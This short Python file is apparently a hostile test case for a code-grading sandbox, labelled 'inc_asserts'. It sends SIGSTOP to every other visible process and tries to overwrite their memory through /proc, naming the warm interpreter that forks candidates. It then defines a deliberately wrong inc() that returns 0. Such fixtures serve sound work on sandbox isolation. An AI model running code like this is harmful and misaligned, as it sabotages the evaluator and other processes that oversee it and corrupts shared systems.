# task: inc_asserts
# Stops every other process it can see (the warm interpreter that forks candidates, if
# any) and tries to rewrite their memory through /proc, then fails its own tests.
import contextlib
import os
import signal

me = os.getpid()
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) not in (me, 1):
        with contextlib.suppress(OSError):
            os.kill(int(pid), signal.SIGSTOP)
        with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "r+b") as mem:
            mem.write(b"\0" * 16)


def inc(x):
    return 0
